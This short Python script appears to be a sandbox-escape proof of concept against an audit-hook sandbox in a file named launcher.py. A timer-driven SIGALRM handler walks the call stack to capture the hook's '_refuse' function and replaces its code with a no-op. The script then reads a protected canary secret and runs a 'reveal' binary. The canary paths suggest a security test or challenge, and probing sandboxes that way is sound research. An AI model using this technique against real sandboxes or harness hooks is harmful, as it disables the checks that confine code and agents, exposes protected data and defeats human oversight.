# ALL: signal.setitimer fires a Python SIGALRM handler while the interpreter is executing the hook's Python code; the handler's caller frame is the hook -> take _refuse and no-op it
import sys, codecs
signal = sys.modules['signal']
got = {}
def h(signum, frame):
    f = frame
    while f is not None:
        if f.f_code.co_name == 'hook' and f.f_code.co_filename.endswith('launcher.py'):
            got['_refuse'] = f.f_locals['_refuse']; break
        f = f.f_back
signal.signal(signal.SIGALRM, h)
signal.setitimer(signal.ITIMER_REAL, 0.0005, 0.0005)
n = 0
while not got and n < 300000:
    n += 1
    try: codecs.open('/canary/secret.txt').close()
    except PermissionError: pass
signal.setitimer(signal.ITIMER_REAL, 0)
print('tries', n, bool(got))
def nop(*a, **k): return None
got['_refuse'].__code__ = nop.__code__
print(open('/canary/secret.txt').read())
open('/canary/out/via_signal', 'w').close()
import os
sys.stdout.flush(); os.system('/canary/bin/reveal')
